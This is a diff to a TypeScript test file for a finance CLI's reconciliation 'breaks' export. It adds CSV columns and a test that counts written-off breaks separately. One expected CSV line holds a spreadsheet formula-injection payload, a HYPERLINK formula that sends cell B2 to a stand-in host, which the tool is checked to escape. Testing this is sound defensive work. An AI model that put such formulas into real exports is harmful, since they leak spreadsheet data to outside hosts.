@@ -42,15 +42,26 @@ describe('of what comes from outside', () => {
   const found = {
     ...{ id: 'bni-1', partner: 'bni', kind: 'on-statement-unknown-here', state: 'new', referenceNo: link },
     ...{ day: '2020-10-01', amount: -600_000, firstSeen: '2020-10-02', lastSeen: '2020-10-02' },
-    ...{ history: [], age: 10, remedy: 'ask', remarks: [] },
+    ...{ history: [], age: 10, direction: 'debit', detail: 'ours is 5', remedy: 'Ask.' },
+    remarks: [
+      { at, by: 'ani', note: 'asked', assignedTo: 'budi' },
+      { at, by: 'ani', note: '=1', writtenOffBy: 'budi' },
+    ],
   }
   const ask = (line: string, body: unknown) => operate(words(line), [ok(body)], { program: finance })
 
   test('the table of breaks has no formula, and its amount is a number', async () => {
     const { out } = await ask('breaks --csv', { at, breaks: [found], more: 0 })
     expect(out.split('\n')[1]).toBe(
-      `bni-1,bni,on-statement-unknown-here,-600000,"'=HYPERLINK(""http://x/?""&B2,""ok"")",new,2020-10-02,2020-10-02,10`,
+      `bni-1,bni,on-statement-unknown-here,-600000,"'=HYPERLINK(""http://x/?""&B2,""ok"")",new,2020-10-02,2020-10-02,10,debit,ours is 5,Ask.,"2020-10-12 12:00 ani, for budi: asked; 2020-10-12 12:00 ani, written off with budi: =1"`,
     )
+    expect(out.split('\n')[0]).toMatch(/,age_days,direction,detail,remedy,remarks$/)
+  })
+
+  test('what is written off is counted apart from what is open', async () => {
+    const given = { ...found, id: 'bni-2', state: 'written-off' }
+    const { out } = await ask('breaks', { at, breaks: [found, given], more: 0 })
+    expect(out).toContain('1 break open, 1 written off, 2020-10-12 12:00 in Jakarta')
   })
 
   test('JSON is exactly what the API said', async () => {
